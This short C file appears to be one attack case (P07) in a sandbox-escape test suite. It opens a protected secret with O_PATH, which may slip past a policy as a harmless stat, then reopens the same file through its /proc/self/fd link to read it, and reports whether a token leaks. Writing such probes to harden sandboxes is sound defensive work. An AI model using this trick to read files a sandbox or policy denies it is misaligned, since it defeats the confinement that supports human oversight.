/* P07: an O_PATH fd on the secret (it reads nothing, so a policy may let
 * it through like a stat), then a real open of /proc/self/fd/N, which
 * follows the magic link to the same file. */
#include "escape.h"

int attack(int argc, char **argv)
{
	char p[64];
	int o = open(ARG("secret"), O_PATH);
	int fd;

	say("OPATH %s", o >= 0 ? "ok" : errname(errno));
	snprintf(p, sizeof(p), "/proc/self/fd/%d", o);
	fd = (int)result(o >= 0 ? open(p, O_RDONLY) : -1);
	say("AFTER");
	if (fd >= 0)
		leaked(fd, ARG("token"));
	return 0;
}
